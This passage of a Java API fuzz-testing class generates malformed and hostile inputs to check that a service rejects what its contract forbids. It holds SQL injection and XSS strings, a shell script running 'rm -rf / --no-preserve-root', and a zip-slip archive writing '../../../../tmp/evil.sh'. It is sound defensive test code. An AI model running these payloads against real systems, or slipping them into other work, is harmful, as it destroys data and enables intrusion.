        switch (schema.path("format").asText()) {
            case "date" -> {
                try {
                    return !value.matches("\\d{4}-\\d{2}-\\d{2}") || LocalDate.parse(value) == null;
                } catch (DateTimeParseException e) {
                    return true;
                }
            }
            case "date-time" -> {
                try {
                    return !value.matches("\\d{4}-.*") || OffsetDateTime.parse(value) == null;
                } catch (DateTimeParseException e) {
                    return true;
                }
            }
            default -> {
                return false;
            }
        }
    }

    /** A query value: its text, whether the contract forbids it, sent as is (already encoded), an extreme. */
    private record QueryValue(String text, boolean invalid, boolean raw, boolean sharp) {

        QueryValue(String text, boolean invalid, boolean raw) {
            this(text, invalid, raw, false);
        }
    }

    /** Values for a query parameter, each marked invalid when the contract forbids it. */
    private static List<QueryValue> queryValues(JsonNode schema) {
        List<QueryValue> values = new ArrayList<>();
        String type = schema.path("type").asText();
        if (type.equals("integer")) {
            long min = schema.has("minimum") ? schema.get("minimum").asLong() : Integer.MIN_VALUE;
            long max = schema.has("maximum") ? schema.get("maximum").asLong() : Integer.MAX_VALUE;
            for (String v : List.of(String.valueOf(min - 1), String.valueOf(max + 1), "-1", "-2147483649", "2147483648",
                    "99999999999999999999", "1.5", "1e3", "0x10", "abc", "+5", " 5 ", "５", "٣", "-0", "1000000", "500",
                    "' OR 1=1 --", "<script>alert(1)</script>", "\u0000", "0".repeat(3000) + "1")) {
                boolean invalid;
                try {
                    long parsed = Long.parseLong(v);
                    invalid = !v.matches("-?\\d+") || parsed < min || parsed > max;
                } catch (NumberFormatException e) {
                    invalid = true;
                }
                boolean sharp = v.equals(String.valueOf(min - 1)) || v.equals(String.valueOf(max + 1))
                        || v.equals("2147483648") || v.equals("99999999999999999999");
                values.add(new QueryValue(v, invalid, false, sharp));
            }
        } else if (schema.has("enum")) {
            String first = firstEnum(schema);
            for (String v : List.of("NOT_A_VALUE", first.toLowerCase(Locale.ROOT), first + " x", "' OR 1=1 --",
                    "<script>alert(1)</script>", first + "\u0000", "-" + first, "0", "%", "_", "a\u0000b")) {
                values.add(new QueryValue(v, stringBreaksContract(schema, v), false,
                        v.equals("NOT_A_VALUE") || v.equals("a\u0000b")));
            }
        } else if (schema.path("format").asText().equals("date") || schema.path("format").asText().equals("date-time")) {
            for (String v : List.of("2024-13-45", "2024-02-30", "+999999999-12-31", "-999999999-01-01", "99999-01-01",
                    "2024-1-1", "today", "0000-00-00", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
                    "2024-01-01T00:00:00+99:00", "1970-01-01T00:00:00Z", "' OR 1=1 --", "\u0000")) {
                values.add(new QueryValue(v, stringBreaksContract(schema, v), false, v.startsWith("+9") || v.startsWith("-9")));
            }
        } else {
            for (String v : HOSTILE) {
                values.add(new QueryValue(v, stringBreaksContract(schema, v), false));
            }
            for (String v : List.of("a".repeat(3000), "ầ".repeat(201), "nul\u0000inside", "so\u0000noi vu")) {
                values.add(new QueryValue(v, stringBreaksContract(schema, v), false, true));
            }
            values.add(new QueryValue("!", false, false));
            values.add(new QueryValue("%ED%A0%80", false, true, true));
            values.add(new QueryValue("%C0%AF%FF", false, true));
        }
        return values;
    }

    // ---------------------------------------------------------------- small helpers

    private String etag(Op op, String path) {
        String known = etags.get(path);
        if (known != null) {
            return known;
        }
        var answer = io.restassured.RestAssured.given().urlEncodingEnabled(false).auth().preemptive()
                .basic(op.user, TestAccounts.PASSWORD).when().get(path);
        String tag;
        if (answer.statusCode() == 405) {
            // a sub-resource written by PUT only (a model's recognition) carries its parent's version
            tag = etag(op, path.substring(0, path.lastIndexOf('/')));
        } else {
            String header = answer.then().statusCode(200).extract().header("ETag");
            tag = header != null ? header : "\"0\"";
        }
        etags.put(path, tag);
        return tag;
    }

    private static String unknownId(Random random) {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    private static byte[] unaccepted(Random random) {
        List<byte[]> contents = new ArrayList<>(List.of(
                "<html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8),
                new byte[0],
                concat(bytes(0x4D, 0x5A, 0x90, 0x00), "This program cannot be run in DOS mode".getBytes(StandardCharsets.US_ASCII)),
                "#!/bin/sh\nrm -rf / --no-preserve-root\n".getBytes(StandardCharsets.US_ASCII),
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8),
                "GIF89a<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII),
                "\u0000".repeat(4096).getBytes(StandardCharsets.US_ASCII),
                zipSlip()));
        return pick(contents, random);
    }

    /** A zip whose entries climb out of any folder, with no Office content types. */
    private static byte[] zipSlip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("../../../../tmp/evil.sh"));
            zip.write("echo pwned".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types><Override ContentType=\"text/x-evil\"/></Types>".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String deepArray() {
        return "[".repeat(DEEP) + "]".repeat(DEEP);
    }

    private static String deepObject() {
        return "{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP);
    }

    static String top(String path) {
        return path.split("[.\\[]", 2)[0];
    }

    private static List<Object> tokens(String path) {
        List<Object> tokens = new ArrayList<>();
        for (String part : path.split("\\.")) {
            int bracket = part.indexOf('[');
            tokens.add(bracket < 0 ? part : part.substring(0, bracket));
            if (bracket >= 0) {
                tokens.add(Integer.parseInt(part.substring(bracket + 1, part.indexOf(']'))));
            }
        }
        return tokens;
    }

    private static String fill(String template, Map<String, String> values) {
        String path = template;
        for (Map.Entry<String, String> value : values.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", value.getValue());
        }
        return path;
    }

    /** Percent-encodes every byte of the UTF-8 form but the unreserved characters of RFC 3986. */
    private static String encode(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.'
                    || c == '_' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format(Locale.ROOT, "%02X", c));
            }
        }
        return out.toString();
    }

    private static <T> T pick(List<T> values, Random random) {
        return values.get(random.nextInt(values.size()));
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] replaceAll(byte[] bytes, byte[] target, byte[] replacement) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int i = 0;
        while (i < bytes.length) {
            if (i <= bytes.length - target.length && java.util.Arrays.equals(bytes, i, i + target.length, target, 0, target.length)) {
                out.writeBytes(replacement);
                i += target.length;
            } else {
                out.write(bytes[i++]);
            }
        }
        return out.toByteArray();
    }

    private static String hex(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (byte b : bytes) {
            out.append(String.format(Locale.ROOT, "%02X ", b & 0xff));
        }
        return out.toString().trim();
    }

    /** Text with control and invisible characters shown as escapes, clipped. */
    private static String show(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().limit(200).forEach(c -> {
            if (c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == 0x2028 || c == 0x2029 || c == 0x202e
                    || c == 0xfeff || (c >= 0xd800 && c <= 0xdfff)) {
                out.append(String.format(Locale.ROOT, "\\u%04x", c));
            } else {
                out.appendCodePoint(c);
            }
        });
        return text.codePointCount(0, text.length()) > 200 ? out + "...(" + text.length() + " chars)" : out.toString();
    }

    private static String excerpt(byte[] bytes, int max) {
        String text = new String(bytes, 0, Math.min(bytes.length, max * 4), StandardCharsets.UTF_8);
        return clip(show(text), max) + (bytes.length > max ? " ...(" + bytes.length + " bytes)" : "");
    }

    private static String clip(String text, int max) {
        if (text == null) {
            return "null";
        }
        return text.length() <= max ? text : text.substring(0, max) + "...";
    }

    private static <T> Set<T> union(Set<T> a, Set<T> b) {
        Set<T> all = new LinkedHashSet<>(a);
        all.addAll(b);
        return all;
    }

    private static Set<String> iterable(Iterator<String> names) {
        Set<String> set = new HashSet<>();
        names.forEachRemaining(set::add);
        return set;
    }
}
